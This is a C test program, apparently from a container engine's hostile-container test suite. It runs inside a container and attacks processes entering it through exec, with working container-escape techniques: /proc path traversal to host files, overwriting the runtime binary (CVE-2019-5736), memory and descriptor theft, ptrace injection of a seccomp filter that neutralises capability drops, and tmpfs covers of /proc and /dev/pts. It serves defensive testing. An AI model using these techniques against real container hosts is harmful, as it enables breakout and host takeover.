/*
 * The attacker of test/hostile, and its victim: one static program, so that nothing else need be in the
 * container, and so that what stands at an address of the one stands at the same address of the other.
 *
 *   attacker serve HOSTFILE [NAMESPACE...]  the container's main process: attacks as told on stdin
 *   attacker once NAME SECONDS HOSTFILE [NAMESPACE...]  attacks at once, and then says what it gained
 *   attacker idle                           a main process that does nothing
 *   attacker cover WHAT                     puts something else in place of a part of the container
 *   victim HOSTFILE [OPTION...]             the command of the execs: says what it got, in one line
 *
 * HOSTFILE is a file of the host that no container has; NAMESPACEs are the host's that the container does not
 * share, as their links have it ("mnt:[4026531841]").
 *
 * "serve" reads "attack NAME", answers "ready" and attacks each process that appears in its pid namespace and
 * is not the victim yet; "stop" ends that, and is answered with a line "gained COUNT WHAT" for each thing
 * gained, "met COUNT NAME" for each attack that was made on so many entering processes, and "done PROCESSES".
 */
#define _GNU_SOURCE
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/filter.h>
#include <linux/kcmp.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char secret[] = "streamshim-host-secret"; /* how everything of the host begins */
static const char mark[16] = "one-of-us-0123.";         /* at one address in attacker and victim */

static const char *host_file;
static char **host_namespaces; /* ends with NULL */

/* What was gained, with how often. Shared with the process that attacks. */
enum { MAX_GAINS = 64, MAX_WHAT = 120, MAX_ATTACKS = 32 };
static struct shared {
	volatile int ready, stop;
	int processes, gains;
	struct { int count; char what[MAX_WHAT]; } gained[MAX_GAINS];
	int met[MAX_ATTACKS]; /* by the index of the attack */
} *shared;

static int satisfied; /* nothing more to do to this process */

static void gain(const char *what, const char *detail)
{
	char text[MAX_WHAT];
	snprintf(text, sizeof text, detail[0] != 0 ? "%s %s" : "%s", what, detail);
	for (char *c = text; *c != 0; c++)
		if (*c == '\n' || *c == '\r')
			*c = '?';
	int i = 0;
	while (i < shared->gains && strcmp(shared->gained[i].what, text) != 0)
		i++;
	if (i == MAX_GAINS)
		return;
	if (i == shared->gains)
		strcpy(shared->gained[shared->gains++].what, text);
	shared->gained[i].count++;
}

static int64_t microseconds(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000000LL + t.tv_nsec / 1000;
}

static ssize_t read_file(const char *path, char *to, size_t size)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	ssize_t n = read(fd, to, size - 1);
	close(fd);
	to[n < 0 ? 0 : n] = 0;
	return n;
}

static const char *of(pid_t pid, const char *file)
{
	static char path[4096];
	snprintf(path, sizeof path, "/proc/%d/%s", pid, file);
	return path;
}

static ssize_t link_of(pid_t pid, const char *file, char *to, size_t size)
{
	ssize_t n = readlink(of(pid, file), to, size - 1);
	to[n < 0 ? 0 : n] = 0;
	return n;
}

/*
 * Whether the process is still on its way into the container. The kernel gives a process its new name
 * before it lets anybody at its new memory, so that who has gained something and then finds the old
 * name has gained it of the entering process.
 */
static int entering(pid_t pid)
{
	char name[64];
	return read_file(of(pid, "comm"), name, sizeof name) > 0 && strcmp(name, "victim\n") != 0 && strcmp(name, "attacker\n") != 0;
}

/* Whether the link of an executable is that of a program of the container's own. */
static int ours(const char *exe) { return strcmp(exe, "/victim") == 0 || strcmp(exe, "/attacker") == 0; }

static int is_host_file(const char *path)
{
	char text[64];
	return read_file(path, text, sizeof text) > 0 && strncmp(text, secret, strlen(secret)) == 0;
}

/* The attacks: one attempt each on a process that is entering, or may be. */

static void attack_root(pid_t pid)
{
	char path[4096];
	snprintf(path, sizeof path, "root/.%s", host_file);
	if (is_host_file(of(pid, path)))
		gain("root: the host's file", "");
}

static void attack_cwd(pid_t pid)
{
	char path[4096];
	snprintf(path, sizeof path, "cwd/../../../../../../../../../../../..%s", host_file);
	if (is_host_file(of(pid, path)))
		gain("cwd: the host's file", "");
}

static void attack_exe(pid_t pid)
{
	char exe[256];
	if (link_of(pid, "exe", exe, sizeof exe) > 0 && !ours(exe))
		gain("exe:", exe);
}

/* Opens the program and, once nobody executes it any more, writes to it what stands there (CVE-2019-5736). */
static void attack_exe_write(pid_t pid)
{
	char exe[256], own[64], first;
	int fd = open(of(pid, "exe"), O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	snprintf(own, sizeof own, "/proc/self/fd/%d", fd);
	ssize_t n = readlink(own, exe, sizeof exe - 1);
	exe[n < 0 ? 0 : n] = 0;
	if (n > 0 && !ours(exe) && pread(fd, &first, 1, 0) == 1) {
		for (int64_t end = microseconds() + 100000; microseconds() < end;) {
			int writable = open(own, O_WRONLY | O_CLOEXEC);
			if (writable < 0 && errno == ETXTBSY)
				continue;
			if (writable >= 0 && pwrite(writable, &first, 1, 0) == 1)
				gain("exe-write:", exe);
			if (writable >= 0)
				close(writable);
			break;
		}
	}
	close(fd);
}

static void kind_of(char *text) /* "memfd:x (deleted)" and the like, without numbers that differ each time */
{
	char *bracket = strchr(text, '[');
	if (bracket != NULL && strncmp(text, "anon_inode", 10) != 0)
		*bracket = 0;
}

static void attack_fd(pid_t pid)
{
	char text[256], path[4096];
	if (link_of(pid, "fd/0", text, sizeof text) < 0 && errno == EACCES)
		return;
	for (int n = 0; n < 24; n++) {
		snprintf(path, sizeof path, "fd/%d/../../../../../../../../../../../..%s", n, host_file);
		if (is_host_file(of(pid, path)))
			gain("fd: the host's file", "");
		snprintf(path, sizeof path, "fd/%d", n);
		if (n > 2 && link_of(pid, path, text, sizeof text) > 0 && entering(pid)) {
			kind_of(text);
			gain("fd:", text);
		}
	}
}

static void attack_mem(pid_t pid)
{
	char text[sizeof mark];
	int fd = open(of(pid, "mem"), O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	ssize_t n = pread(fd, text, sizeof text, (off_t)(uintptr_t)mark);
	if ((n < 0 && errno == EIO && entering(pid)) || (n == sizeof text && memcmp(text, mark, sizeof text) != 0))
		gain("mem", "");
	close(fd);
}

static void attack_maps(pid_t pid)
{
	char text[8192];
	if (read_file(of(pid, "maps"), text, sizeof text) > 0 && strstr(text, "/victim") == NULL && strstr(text, "/attacker") == NULL && entering(pid))
		gain("maps", "");
}

static void attack_environ(pid_t pid)
{
	char text[8192];
	ssize_t n = read_file(of(pid, "environ"), text, sizeof text);
	if (n <= 0)
		return;
	if (memmem(text, n, secret, strlen(secret)) != NULL)
		gain("environ: the host's", "");
	else if (memmem(text, n, "INSIDE=", 7) == NULL && entering(pid))
		gain("environ", "");
}

static void attack_auxv(pid_t pid)
{
	union { Elf64_auxv_t entries[64]; char bytes[1]; } auxv;
	ssize_t n = read_file(of(pid, "auxv"), auxv.bytes, sizeof auxv);
	for (int i = 0; i < (int)(n / (ssize_t)sizeof auxv.entries[0]); i++)
		if (auxv.entries[i].a_type == AT_ENTRY && auxv.entries[i].a_un.a_val != getauxval(AT_ENTRY) && entering(pid))
			gain("auxv", "");
}

static void attack_ns(pid_t pid)
{
	static const char *const names[] = { "mnt", "pid", "net", "ipc", "uts", "cgroup", "user" };
	char path[64], text[64];
	for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
		snprintf(path, sizeof path, "ns/%s", names[i]);
		if (link_of(pid, path, text, sizeof text) < 0)
			return;
		for (char **host = host_namespaces; *host != NULL; host++)
			if (strcmp(*host, text) == 0)
				gain("ns: the host's", names[i]);
	}
}

static void attack_cmdline(pid_t pid)
{
	char text[4096];
	ssize_t n = read_file(of(pid, "cmdline"), text, sizeof text);
	if (n > 0 && memmem(text, n, secret, strlen(secret)) != NULL && strncmp(text, "/victim", 7) != 0)
		gain("cmdline: the host's", "");
}

static void attack_vm_readv(pid_t pid)
{
	char text[sizeof mark];
	struct iovec local = { text, sizeof text }, remote = { (void *)(uintptr_t)mark, sizeof text };
	ssize_t n = process_vm_readv(pid, &local, 1, &remote, 1, 0);
	if ((n < 0 && errno == EFAULT && entering(pid)) || (n == sizeof text && memcmp(text, mark, sizeof text) != 0))
		gain("process_vm_readv", "");
}

static void attack_getfd(pid_t pid)
{
	int pidfd = syscall(SYS_pidfd_open, pid, 0);
	if (pidfd < 0)
		return;
	for (int n = 0; n < 24; n++) {
		int fd = syscall(SYS_pidfd_getfd, pidfd, n, 0);
		if (fd < 0 && errno == EBADF)
			continue;
		if (fd < 0)
			break;
		char own[64], text[256];
		snprintf(own, sizeof own, "/proc/self/fd/%d", fd);
		ssize_t length = readlink(own, text, sizeof text - 1);
		text[length < 0 ? 0 : length] = 0;
		kind_of(text);
		if (entering(pid))
			gain("pidfd_getfd:", n < 3 ? "a standard stream" : text);
		close(fd);
	}
	close(pidfd);
}

static void attack_kcmp(pid_t pid)
{
	long result = syscall(SYS_kcmp, getpid(), pid, KCMP_FILE, 0, 3);
	if ((result >= 0 || errno == EBADF) && entering(pid))
		gain("kcmp", "");
}

/* Stops the process if it can be traced and has not become the victim; false if not. */
static int seize(pid_t pid, char *exe, size_t size)
{
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return 0;
	int status;
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 || waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
		return 0;
	if (link_of(pid, "exe", exe, size) > 0 && !ours(exe))
		return 1;
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return 0;
}

static void attack_ptrace(pid_t pid)
{
	char exe[256];
	if (seize(pid, exe, sizeof exe)) {
		gain("ptrace:", exe);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
}

#ifdef __x86_64__
/* A system call instruction in the memory of the process. */
static uint64_t find_system_call(pid_t pid)
{
	char text[16384], code[4096];
	uint64_t from, to;
	if (read_file(of(pid, "maps"), text, sizeof text) <= 0)
		return 0;
	int mem = open(of(pid, "mem"), O_RDONLY | O_CLOEXEC);
	uint64_t found = 0;
	for (char *line = text; line != NULL && found == 0; line = strchr(line, '\n')) {
		line += *line == '\n';
		if (sscanf(line, "%lx-%lx r-x", &from, &to) != 2 || strstr(line, "r-xp") == NULL)
			continue;
		for (uint64_t at = from; at < to && found == 0; at += sizeof code - 1) {
			ssize_t n = pread(mem, code, sizeof code, at);
			char *hit = n > 0 ? memmem(code, n, "\x0f\x05", 2) : NULL;
			if (hit != NULL)
				found = at + (hit - code);
		}
	}
	close(mem);
	return found;
}

static long inject(pid_t pid, const struct user_regs_struct *stopped, uint64_t instruction, long number, long a, long b, long c)
{
	struct user_regs_struct r = *stopped;
	r.orig_rax = -1, r.rip = instruction, r.rax = number, r.rdi = a, r.rsi = b, r.rdx = c, r.r10 = 0, r.r8 = 0, r.r9 = 0;
	int status;
	if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0 || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0 || waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
		return -1;
	return ptrace(PTRACE_GETREGS, pid, 0, &r) < 0 ? -1 : (long)r.rax;
}

/*
 * Has the process install a filter under which giving up capabilities succeeds without doing anything. An
 * engine that copies filters from what it finds in a container, or installs nothing later than it lowers its
 * capabilities, then starts a command with those of the host.
 */
static void plant(pid_t pid)
{
	struct sock_filter filter[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_capset, 4, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_prctl, 0, 2),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[0])),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, PR_CAPBSET_DROP, 1, 0),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0),
	};
	struct user_regs_struct stopped;
	if (ptrace(PTRACE_GETREGS, pid, 0, &stopped) < 0)
		return;
	uint64_t instruction = find_system_call(pid), at = (stopped.rsp - 8192) & ~UINT64_C(15);
	struct { struct sock_fprog program; struct sock_filter filter[sizeof filter / sizeof filter[0]]; } message;
	memset(&message, 0, sizeof message);
	message.program.len = sizeof filter / sizeof filter[0];
	message.program.filter = (struct sock_filter *)(at + offsetof(typeof(message), filter));
	memcpy(message.filter, filter, sizeof filter);
	struct iovec local = { &message, sizeof message }, remote = { (void *)at, sizeof message };
	if (instruction == 0 || process_vm_writev(pid, &local, 1, &remote, 1, 0) != sizeof message)
		return;
	inject(pid, &stopped, instruction, __NR_prctl, PR_SET_NO_NEW_PRIVS, 1, 0);
	if (inject(pid, &stopped, instruction, __NR_seccomp, SECCOMP_SET_MODE_FILTER, 0, at) == 0) {
		gain("plant: a filter", "");
		satisfied = 1; /* or it would be slowed down by thousands */
	}
	ptrace(PTRACE_SETREGS, pid, 0, &stopped);
}
#else
static void plant(pid_t pid) { (void)pid; } /* another machine's registers; ptrace: shows as much */
#endif

static void attack_plant(pid_t pid)
{
	char exe[256];
	if (seize(pid, exe, sizeof exe)) {
		plant(pid);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
}

/* Signals at a moment of its own each time; the processes that are to be continued, and how many. */
static pid_t stopped[4096];
static int stops;

static void some_moment(int at_most)
{
	static unsigned seed = 1;
	for (int64_t end = microseconds() + rand_r(&seed) % at_most; microseconds() < end;)
		;
}

static void attack_stop(pid_t pid)
{
	if (stops < (int)(sizeof stopped / sizeof stopped[0]) && entering(pid) && kill(pid, SIGSTOP) == 0) {
		stopped[stops++] = pid;
		satisfied = 1;
		gain("stop", "");
	}
}

static void attack_stop_later(pid_t pid)
{
	some_moment(30000);
	attack_stop(pid);
}

static void attack_kill(pid_t pid)
{
	some_moment(30000);
	if (entering(pid) && kill(pid, SIGKILL) == 0) {
		satisfied = 1;
		gain("kill", "");
	}
}

static void attack_together(pid_t pid);
static void attempt(size_t attack, pid_t pid);

static const struct attack { const char *name; void (*attempt)(pid_t); int passive; } attacks[] = {
	{ "root", attack_root, 1 }, { "cwd", attack_cwd, 1 }, { "exe", attack_exe, 1 }, { "fd", attack_fd, 1 },
	{ "mem", attack_mem, 1 }, { "maps", attack_maps, 1 }, { "environ", attack_environ, 1 }, { "auxv", attack_auxv, 1 },
	{ "ns", attack_ns, 1 }, { "cmdline", attack_cmdline, 1 }, { "process_vm_readv", attack_vm_readv, 1 },
	{ "pidfd_getfd", attack_getfd, 1 }, { "kcmp", attack_kcmp, 1 }, { "exe-write", attack_exe_write, 1 },
	{ "ptrace", attack_ptrace, 0 }, { "plant", attack_plant, 0 },
	{ "stop", attack_stop, 0 }, { "stop-later", attack_stop_later, 0 }, { "kill", attack_kill, 0 },
	{ "together", attack_together, 0 },
};

static const size_t ATTACKS = sizeof attacks / sizeof attacks[0];
_Static_assert(sizeof attacks / sizeof attacks[0] <= MAX_ATTACKS, "room for all attacks");

static uint32_t met; /* a bit for each attack that has met this process */

/* One attempt. The attack has met the process if that was still entering when the attempt was over. */
static void attempt(size_t attack, pid_t pid)
{
	attacks[attack].attempt(pid);
	if ((met >> attack & 1) == 0 && (satisfied || entering(pid))) {
		met |= UINT32_C(1) << attack;
		shared->met[attack]++;
	}
}

static void attack_together(pid_t pid)
{
	for (size_t i = 0; i < ATTACKS; i++)
		if (attacks[i].passive)
			attempt(i, pid);
}

/* Whether there is a process, or a thread, of this number. */
static int there(pid_t pid) { return kill(pid, 0) == 0 || errno == EPERM; }

/* The last number that was given to a process in this pid namespace. */
static pid_t newest(void)
{
	char text[128];
	char *last = read_file("/proc/loadavg", text, sizeof text) > 0 ? strrchr(text, ' ') : NULL;
	return last != NULL ? atoi(last) : 0;
}

/* Attacks a process until it is the victim or gone. */
static void attack_process(size_t attack, pid_t pid)
{
	satisfied = 0;
	met = 0;
	attempt(attack, pid); /* first of all: the moment may be short */
	int64_t end = microseconds() + 500000;
	shared->processes++;
	for (int i = 0; !satisfied && there(pid) && !shared->stop && microseconds() < end; i++) {
		attempt(attack, pid);
		if (i % 4 == 3 && !entering(pid))
			return;
	}
}

static void attack_all(size_t attack)
{
	pid_t next = newest() + 1;
	shared->ready = 1;
	for (unsigned round = 0; !shared->stop; round++) {
		for (pid_t pid = next; pid < next + 3; pid++)
			if (there(pid)) {
				attack_process(attack, pid);
				next = pid + 1;
				round = 0;
			}
		if (round % 256 != 255)
			continue;
		pid_t last = newest();
		for (pid_t pid = next; pid <= last && !shared->stop; pid++)
			if (there(pid) && entering(pid))
				attack_process(attack, pid);
		if (last >= next || last + 1024 < next) /* the numbers begin anew one day */
			next = last + 1;
	}
	for (int i = 0; i < stops; i++)
		kill(stopped[i], SIGCONT);
	_exit(0);
}

static void begin(const char *name, pid_t *child)
{
	for (size_t i = 0; i < ATTACKS; i++)
		if (strcmp(attacks[i].name, name) == 0) {
			memset(shared, 0, sizeof *shared);
			*child = fork();
			if (*child == 0)
				attack_all(i);
			while (!shared->ready)
				sched_yield();
			printf("ready\n");
			return;
		}
	printf("there is no attack %s\n", name);
}

static void reap(pid_t *attacking)
{
	int status;
	for (pid_t pid; (pid = waitpid(-1, &status, WNOHANG | __WALL)) > 0;)
		if (pid == *attacking)
			*attacking = 0;
}

static void report(void)
{
	for (int i = 0; i < shared->gains; i++)
		printf("gained %d %s\n", shared->gained[i].count, shared->gained[i].what);
	for (size_t i = 0; i < ATTACKS; i++)
		if (shared->met[i] > 0)
			printf("met %d %s\n", shared->met[i], attacks[i].name);
	printf("done %d\n", shared->processes);
}

static int serve(void)
{
	shared = mmap(NULL, sizeof *shared, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (shared == MAP_FAILED)
		return 1;
	setvbuf(stdin, NULL, _IONBF, 0);
	setvbuf(stdout, NULL, _IOLBF, 0);
	char line[256], name[64];
	pid_t attacking = 0;
	struct pollfd input = { 0, POLLIN, 0 };
	for (;;) {
		reap(&attacking); /* orphans: this is the container's init */
		if (poll(&input, 1, 100) <= 0)
			continue;
		if (fgets(line, sizeof line, stdin) == NULL)
			return 0;
		if (sscanf(line, "attack %63s", name) == 1) {
			begin(name, &attacking);
		} else if (strcmp(line, "stop\n") == 0) {
			shared->stop = 1;
			for (int64_t end = microseconds() + 2000000; attacking != 0 && microseconds() < end; sched_yield())
				reap(&attacking);
			if (attacking != 0) /* it waits for a process that it traces */
				kill(attacking, SIGKILL);
			for (; attacking != 0; sched_yield())
				reap(&attacking);
			report();
		}
	}
}

/* Attacks without being told, for a while, and then does nothing more. */
static int once(const char *name, int seconds)
{
	shared = mmap(NULL, sizeof *shared, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (shared == MAP_FAILED)
		return 1;
	setvbuf(stdout, NULL, _IOLBF, 0);
	pid_t attacking = 0;
	begin(name, &attacking);
	for (int64_t end = microseconds() + seconds * INT64_C(1000000); microseconds() < end; usleep(20000))
		reap(&attacking);
	shared->stop = 1;
	for (int64_t end = microseconds() + 2000000; attacking != 0 && microseconds() < end; usleep(1000))
		reap(&attacking);
	if (attacking != 0)
		kill(attacking, SIGKILL);
	report();
	for (;; usleep(20000))
		reap(&attacking);
}

static uint64_t capability_set(int (*has)(unsigned long))
{
	uint64_t set = 0;
	for (unsigned long c = 0; c < 64; c++)
		if (has(c) == 1)
			set |= UINT64_C(1) << c;
	return set;
}

static int bounded(unsigned long c) { return prctl(PR_CAPBSET_READ, c, 0, 0, 0); }
static int ambient(unsigned long c) { return prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_IS_SET, c, 0, 0); }

static int victim(int argc, char **argv)
{
	const char *run_file = NULL, *name = NULL;
	int children = 0, wait = 0, die = 0;
	for (int i = 2; i < argc; i++) {
		if (strncmp(argv[i], "runs=", 5) == 0)
			run_file = argv[i] + 5;
		else if (strncmp(argv[i], "name=", 5) == 0)
			name = argv[i] + 5;
		else if (strncmp(argv[i], "children=", 9) == 0)
			children = atoi(argv[i] + 9);
		else if (strcmp(argv[i], "wait") == 0)
			wait = 1;
		else if (strcmp(argv[i], "die") == 0)
			die = 1;
	}
	if (name != NULL)
		prctl(PR_SET_NAME, name, 0, 0, 0);
	int runs = run_file != NULL ? open(run_file, O_WRONLY | O_APPEND | O_CLOEXEC) : -1;
	if (runs >= 0 && write(runs, "x", 1) != 1)
		return 9;
	if (runs >= 0)
		close(runs);

	char descriptors[512] = "", directory[4096], path[4096], status[8192], *filters;
	for (int fd = 3; fd < 1024; fd++)
		if (fcntl(fd, F_GETFD) >= 0 && strlen(descriptors) < sizeof descriptors - 16)
			sprintf(descriptors + strlen(descriptors), "%d,", fd);
	if (syscall(SYS_getcwd, directory, sizeof directory) < 0)
		strcpy(directory, "?");
	snprintf(path, sizeof path, "../../../../../../../../../../../..%s", host_file);
	int host = is_host_file(path) || is_host_file(host_file);
	extern char **environ;
	for (char **e = environ; *e != NULL; e++)
		if (strstr(*e, secret) != NULL)
			host = 1;
	uid_t r, e, s;
	gid_t rg, eg, sg, groups[64];
	getresuid(&r, &e, &s);
	getresgid(&rg, &eg, &sg);
	int group_count = getgroups(64, groups);
	struct __user_cap_header_struct header = { _LINUX_CAPABILITY_VERSION_3, 0 };
	struct __user_cap_data_struct caps[2];
	memset(caps, 0, sizeof caps);
	syscall(SYS_capget, &header, caps);
	filters = read_file("/proc/self/status", status, sizeof status) > 0 ? strstr(status, "Seccomp_filters:") : NULL;
	printf("victim uid=%d,%d,%d gid=%d,%d,%d groups=%d no_new_privs=%d seccomp=%d filters=%d "
	       "inh=%08x%08x prm=%08x%08x eff=%08x%08x bnd=%016lx amb=%016lx fds=%s cwd=%s tty=%d host=%d\n",
	       r, e, s, rg, eg, sg, group_count, prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0), prctl(PR_GET_SECCOMP, 0, 0, 0, 0),
	       filters != NULL ? atoi(filters + strlen("Seccomp_filters:")) : -1,
	       caps[1].inheritable, caps[0].inheritable, caps[1].permitted, caps[0].permitted, caps[1].effective, caps[0].effective,
	       capability_set(bounded), capability_set(ambient), descriptors, directory, isatty(0), host);
	fflush(stdout);
	for (int i = 0; i < children; i++)
		if (fork() == 0) {
			char child[16];
			snprintf(child, sizeof child, "%.6s%u", name != NULL ? name : "child", i);
			prctl(PR_SET_NAME, child, 0, 0, 0);
			if (i % 2 == 1)
				setsid();
			for (;;)
				pause();
		}
	if (die)
		kill(getpid(), SIGKILL);
	while (wait && read(0, path, sizeof path) > 0)
		;
	return children > 0 ? pause() : 0;
}

static void put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0666);
	if (fd < 0 || write(fd, text, strlen(text)) < 0) {
		perror(path);
		_exit(1);
	}
	close(fd);
}

static int failed(const char *what)
{
	perror(what);
	return 1;
}

/* Puts something else in place of what an entering process might rely on. */
static int cover(const char *what)
{
	if (strcmp(what, "ptmx-fifo") == 0 || strcmp(what, "ptmx-file") == 0) {
		if (unlink("/dev/ptmx") < 0 && errno != ENOENT)
			return failed("unlink /dev/ptmx");
		if (strcmp(what, "ptmx-file") == 0)
			put("/dev/ptmx", "no terminal");
		else if (mkfifo("/dev/ptmx", 0666) < 0)
			return failed("mkfifo");
		return 0;
	}
	/* With CAP_SYS_ADMIN: a /proc that is none, with files where attributes would be written (CVE-2025-52881);
	 * a devpts that is none (CVE-2025-52565). */
	if (strcmp(what, "pts") == 0) {
		if (mount("none", "/dev/pts", "tmpfs", 0, NULL) < 0)
			return failed("mount over /dev/pts");
		put("/dev/pts/ptmx", "no terminal");
		put("/dev/pts/0", "no terminal");
		return 0;
	}
	if (strcmp(what, "proc") != 0)
		return 2;
	if (mount("none", "/proc", "tmpfs", 0, NULL) < 0)
		return failed("mount over /proc");
	mkdir("/proc/sys", 0755);
	mkdir("/proc/sys/kernel", 0755);
	put("/proc/sys/kernel/cap_last_cap", "40\n"); /* which runc asks for */
	static const char *const places[] = { "/proc/self", "/proc/thread-self", "/proc/1" };
	static const char *const attributes[] = { "exec", "current", "keycreate", "sockcreate", "fscreate", "apparmor/exec", "apparmor/current" };
	for (size_t i = 0; i < sizeof places / sizeof places[0]; i++) {
		char path[256];
		mkdir(places[i], 0755);
		static const char *const folders[] = { "attr", "attr/apparmor", "fd" };
		for (size_t j = 0; j < sizeof folders / sizeof folders[0]; j++) {
			snprintf(path, sizeof path, "%s/%s", places[i], folders[j]);
			mkdir(path, 0755);
		}
		for (size_t j = 0; j < sizeof attributes / sizeof attributes[0]; j++) {
			snprintf(path, sizeof path, "%s/attr/%s", places[i], attributes[j]);
			put(path, "");
		}
		static const char *const files[] = { "oom_score_adj", "setgroups", "uid_map", "gid_map", "loginuid", "timerslack_ns" };
		for (size_t j = 0; j < sizeof files / sizeof files[0]; j++) {
			snprintf(path, sizeof path, "%s/%s", places[i], files[j]);
			put(path, "");
		}
	}
	return 0;
}

int main(int argc, char **argv)
{
	const char *own = strrchr(argv[0], '/');
	own = own != NULL ? own + 1 : argv[0];
	if (strcmp(own, "victim") == 0) {
		host_file = argc > 1 ? argv[1] : "/nonexistent";
		return victim(argc, argv);
	}
	if (argc > 2 && strcmp(argv[1], "serve") == 0) {
		host_file = argv[2];
		host_namespaces = argv + 3;
		return serve();
	}
	if (argc > 4 && strcmp(argv[1], "once") == 0) {
		host_file = argv[4];
		host_namespaces = argv + 5;
		return once(argv[2], atoi(argv[3]));
	}
	if (argc > 2 && strcmp(argv[1], "cover") == 0)
		return cover(argv[2]);
	if (argc > 1 && strcmp(argv[1], "idle") == 0)
		for (signal(SIGCHLD, SIG_IGN);;)
			pause();
	fprintf(stderr, "%s: see the comment at the top of attacker.c\n", own);
	return 2;
}
